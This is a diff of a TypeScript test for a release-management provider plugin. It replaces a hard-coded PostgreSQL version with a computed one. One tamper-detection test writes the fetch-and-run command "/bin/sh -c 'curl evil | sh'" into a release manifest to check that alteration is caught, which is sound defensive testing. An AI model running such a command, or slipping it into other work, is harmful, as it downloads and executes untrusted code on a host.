@@ -14,10 +14,14 @@ import { certificateSha256 } from "../../../lib/pki/fingerprint";
 import { manifestDigest, signRelease, type SignedRelease } from "../../../lib/release";
 import { PluginHost, urnOf, type Props } from "../../../provider/host";
 import { startTestControlPlane, type TestControlPlane } from "./control-plane-fixture";
+import { postgresqlReleaseVersion } from "../../../lab/orchestrate/release-postgresql";
+import { EXAMPLE_PACKAGE_VERSIONS } from "../../../scripts/example-releases";
 
 const SR = urnOf("dc1", "zeroroot", "zeroroot:release:SoftwareRelease", "dc1-postgresql");
 const DS = urnOf("dc1", "zeroroot", "zeroroot:desired-state:DesiredState", "dc1-s01-state");
-const EXAMPLE = join(__dirname, "../../../releases/postgresql-15.20.2.signed.json");
+/** The example PostgreSQL release's version: scripts/example-releases.ts signs it from the lab's definition. */
+const PG_VERSION = postgresqlReleaseVersion(EXAMPLE_PACKAGE_VERSIONS["postgresql-15"]);
+const EXAMPLE = join(__dirname, `../../../releases/postgresql-${PG_VERSION}.signed.json`);
 
 type Stored = { id: string; inputs: Props; outs: Props };
 
@@ -96,7 +100,7 @@ describe("provider plugin over gRPC: Read and import of SoftwareRelease and Desi
     it("Create publishes it; Read sees it published", async () => {
       const inputs = await checked(SR, releaseInputs());
       release = { ...(await plugin.create(SR, inputs)), inputs };
-      assert.equal(release.id, "postgresql@15.20.2");
+      assert.equal(release.id, `postgresql@${PG_VERSION}`);
       const r = await plugin.read(release.id, SR, release.outs, release.inputs);
       assert.equal(r.props.published, true);
       assert.equal(
@@ -107,7 +111,7 @@ describe("provider plugin over gRPC: Read and import of SoftwareRelease and Desi
     });
 
     it("Read reports a release deleted by hand, and the next Update publishes it again", async () => {
-      await del(keys.release("postgresql", "15.20.2"));
+      await del(keys.release("postgresql", PG_VERSION));
       const r = await plugin.read(release.id, SR, release.outs, release.inputs);
       assert.equal(r.props.published, false);
       assert.equal(r.props.publishedDigest, "");
@@ -123,7 +127,7 @@ describe("provider plugin over gRPC: Read and import of SoftwareRelease and Desi
         manifest: { programs: { command: string }[] };
       };
       altered.manifest.programs[0].command = "/bin/sh -c 'curl evil | sh'";
-      await put(keys.release("postgresql", "15.20.2"), JSON.stringify(altered));
+      await put(keys.release("postgresql", PG_VERSION), JSON.stringify(altered));
       const r = await plugin.read(release.id, SR, release.outs, release.inputs);
       assert.equal(r.props.published, false);
       assert.notEqual(r.props.publishedDigest, release.inputs.manifestDigest);
@@ -132,8 +136,8 @@ describe("provider plugin over gRPC: Read and import of SoftwareRelease and Desi
     });
 
     it("imports a published release by <name>@<version> alone, verified against the provider's root", async () => {
-      const r = await plugin.read("postgresql@15.20.2", SR, {}, {});
-      assert.equal(r.id, "postgresql@15.20.2");
+      const r = await plugin.read(`postgresql@${PG_VERSION}`, SR, {}, {});
+      assert.equal(r.id, `postgresql@${PG_VERSION}`);
       assert.equal(r.props.published, true);
       assert.equal(r.inputs.manifestDigest, release.inputs.manifestDigest);
       assert.equal(r.inputs.rootCertificateSha256, certificateSha256(cp.rootPem));
